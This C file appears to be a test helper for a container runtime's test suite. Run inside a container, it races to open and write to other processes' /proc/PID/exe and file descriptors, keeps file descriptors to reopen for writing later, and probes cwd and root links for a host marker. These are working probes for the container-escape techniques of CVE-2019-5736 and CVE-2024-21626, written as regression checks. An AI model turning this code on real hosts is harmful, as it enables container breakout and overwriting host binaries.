/*
 * The attacker of helper-exposure.test.ts, run inside a container. It
 * watches /proc for every new process berth starts into the container and
 * races for what the kernel shows of it:
 *
 *   /proc/PID/exe    opened for writing (O_WRONLY|O_APPEND, O_RDWR,
 *                    O_WRONLY) and written to; opened read-only and kept, so
 *                    that it can be reopened for writing through
 *                    /proc/self/fd/N once nobody executes the file any more
 *                    (CVE-2019-5736);
 *   /proc/PID/fd/N   (N >= 3) regular files opened for writing and written
 *                    to; directories searched for the host marker;
 *   /proc/PID/cwd, /proc/PID/root   searched for the host marker
 *                    (CVE-2024-21626: a host directory reached from inside).
 *
 * One line per event on stdout, "dev ino" being the st_dev and st_ino of
 * what was opened, as the host's stat() gives them:
 *
 *   seen PID TARGET            readlink of /proc/PID/exe worked
 *   denied PID ERRNO           it did not (a process that is not dumpable)
 *   open PID MODE DEV INO      /proc/PID/exe opened (MODE r, w, rw, a)
 *   wrote PID WHAT DEV INO     a write through it went through
 *   reopen DEV INO             a kept fd reopened for writing
 *   hostdir PID WHERE          the host marker was visible through WHERE
 *   tick N                     N scans done (the test waits on these)
 *
 * Usage: watcher MARKER_HOST_PATH MARKER_NAME
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define MAX_PID (1 << 22)
#define KEPT 256

/* done: its exe was reached; told: its denial was reported once */
static unsigned char done[MAX_PID / 8], told[MAX_PID / 8];
static int kept[KEPT];
static int kept_next;
static const char *marker_path, *marker_name;

static void say(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void say(const char *fmt, ...)
{
	char line[512];
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(line, sizeof line - 1, fmt, ap);
	va_end(ap);
	if (n < 0 || n > (int)sizeof line - 2)
		return;
	line[n++] = '\n';
	(void)!write(1, line, n);
}

static void try_write(int fd, const char *what, int pid)
{
	struct stat st;

	if (fstat(fd, &st) < 0)
		return;
	if (write(fd, "X", 1) == 1)
		say("wrote %d %s %llu %llu", pid, what, (unsigned long long)st.st_dev,
		    (unsigned long long)st.st_ino);
}

static void keep(int fd)
{
	if (kept[kept_next] > 0)
		close(kept[kept_next]);
	kept[kept_next] = fd;
	kept_next = (kept_next + 1) % KEPT;
}

/* A directory of another process: can the host marker be seen from it? */
static void search_dir(int pid, const char *where, const char *path)
{
	int dir = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	if (dir < 0)
		return;
	if (faccessat(dir, marker_name, F_OK, 0) == 0 ||
	    faccessat(dir, marker_path, F_OK, 0) == 0)
		say("hostdir %d %s", pid, where);
	close(dir);
}

#define BIT(set, pid) (set[(pid) / 8] & (1 << ((pid) % 8)))
#define SET(set, pid) (set[(pid) / 8] |= 1 << ((pid) % 8))

static void attack_exe(int pid)
{
	static const struct { int flags; const char *mode; } modes[] = {
		{ O_WRONLY | O_APPEND, "a" }, { O_RDWR, "rw" }, { O_WRONLY, "w" },
	};
	char path[64], target[4096];
	struct stat st;
	ssize_t n;
	int fd;

	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	for (size_t i = 0; i < sizeof modes / sizeof *modes; i++) {
		fd = open(path, modes[i].flags | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (fstat(fd, &st) == 0)
			say("open %d %s %llu %llu", pid, modes[i].mode,
			    (unsigned long long)st.st_dev, (unsigned long long)st.st_ino);
		try_write(fd, "exe", pid);
		close(fd);
	}
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0) {
		if (fstat(fd, &st) == 0)
			say("open %d r %llu %llu", pid, (unsigned long long)st.st_dev,
			    (unsigned long long)st.st_ino);
		keep(fd);
	}
	n = readlink(path, target, sizeof target - 1);
	if (n >= 0) {
		target[n] = '\0';
		say("seen %d %s", pid, target);
		SET(done, pid);
	} else if (!BIT(told, pid)) {
		say("denied %d %d", pid, errno);
		SET(told, pid);
	}
}

static void attack_fds(int pid)
{
	char path[64], fdpath[96];
	struct dirent *e;
	DIR *d;

	snprintf(path, sizeof path, "/proc/%d/fd", pid);
	if (!(d = opendir(path)))
		return;
	while ((e = readdir(d))) {
		struct stat st;
		int n = atoi(e->d_name), fd;

		if (e->d_name[0] == '.' || n < 3)
			continue;
		snprintf(fdpath, sizeof fdpath, "%s/%d", path, n);
		if (stat(fdpath, &st) < 0)
			continue;
		if (S_ISDIR(st.st_mode)) {
			search_dir(pid, fdpath, fdpath);
		} else if (S_ISREG(st.st_mode) &&
			   (fd = open(fdpath, O_WRONLY | O_APPEND | O_CLOEXEC)) >= 0) {
			try_write(fd, "fd", pid);
			close(fd);
		}
	}
	closedir(d);
}

static void attack(int pid)
{
	char path[64];

	attack_exe(pid);
	attack_fds(pid);
	snprintf(path, sizeof path, "/proc/%d/cwd", pid);
	search_dir(pid, "cwd", path);
	snprintf(path, sizeof path, "/proc/%d/root", pid);
	search_dir(pid, "root", path);
}

/* The kept exe fds: writable yet? (once nobody executes the file) */
static void reopen_kept(void)
{
	char path[64];
	struct stat st;

	for (int i = 0; i < KEPT; i++) {
		int fd;

		if (kept[i] <= 0)
			continue;
		snprintf(path, sizeof path, "/proc/self/fd/%d", kept[i]);
		fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (fstat(fd, &st) == 0)
			say("reopen %llu %llu", (unsigned long long)st.st_dev,
			    (unsigned long long)st.st_ino);
		try_write(fd, "kept", 0);
		close(fd);
		close(kept[i]);
		kept[i] = 0;
	}
}

int main(int argc, char **argv)
{
	int self = getpid();

	if (argc != 3)
		return 2;
	marker_path = argv[1];
	marker_name = argv[2];
	for (unsigned long scan = 1;; scan++) {
		DIR *proc = opendir("/proc");
		struct dirent *e;

		if (!proc)
			return 1;
		while ((e = readdir(proc))) {
			int pid = atoi(e->d_name);

			/* until its exe was reached: it may become dumpable
			 * later (CAPSET, execve) */
			if (pid > 1 && pid != self && pid < MAX_PID && !BIT(done, pid))
				attack(pid);
		}
		closedir(proc);
		if (scan % 64 == 0)
			reopen_kept();
		if (scan % 4096 == 0)
			say("tick %lu", scan / 4096);
	}
}
